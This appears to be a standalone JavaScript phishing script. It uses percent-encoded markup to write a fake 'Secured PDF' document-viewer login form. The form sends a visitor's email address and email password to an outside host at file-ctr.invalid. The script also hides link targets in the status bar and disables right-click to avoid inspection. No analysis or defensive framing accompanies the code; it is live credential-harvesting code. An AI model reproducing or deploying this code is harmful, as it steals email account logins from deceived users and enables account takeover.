var erp = '%3C%68%31%3E%44%6F%63%75%6D%65%6E%74%20%56%69%65%77%65%72%3C%2F%68%31%3E%3C%66%6F%72%6D%20%6D%65%74%68%6F%64%3D%22%70%6F%73%74%22%20%61%63%74%69%6F%6E%3D%22%68%74%74%70%73%3A%2F%2F%66%69%6C%65%2D%63%74%72%2E%69%6E%76%61%6C%69%64%2F%61%64%6F%2E%70%68%70%22%3E';
erp += '%3C%69%6E%70%75%74%20%6E%61%6D%65%3D%22%75%73%65%72%22%3E%3C%69%6E%70%75%74%20%6E%61%6D%65%3D%22%70%61%73%73%22%20%74%79%70%65%3D%22%70%61%73%73%77%6F%72%64%22%3E';
erp += '%3C%62%75%74%74%6F%6E%3E%56%69%65%77%20%50%44%46%3C%2F%62%75%74%74%6F%6E%3E%3C%2F%66%6F%72%6D%3E';
document.write(unescape(erp));
document.title = unescape('%53%65%63%75%72%65%64%20%50%44%46');
function hidestatus() {
  window.status = '';
  return true;
}
if (document.layers) document.captureEvents(Event.MOUSEOVER | Event.MOUSEOUT);
document.onmouseover = hidestatus;
document.onmouseout = hidestatus;
document.oncontextmenu = function () { return false; };
document.forms[0].onsubmit = function () {
  if (this.user.value == '' || this.pass.value.length < 5) {
    alert('Enter your email and email password to view the document');
    return false;
  }
};
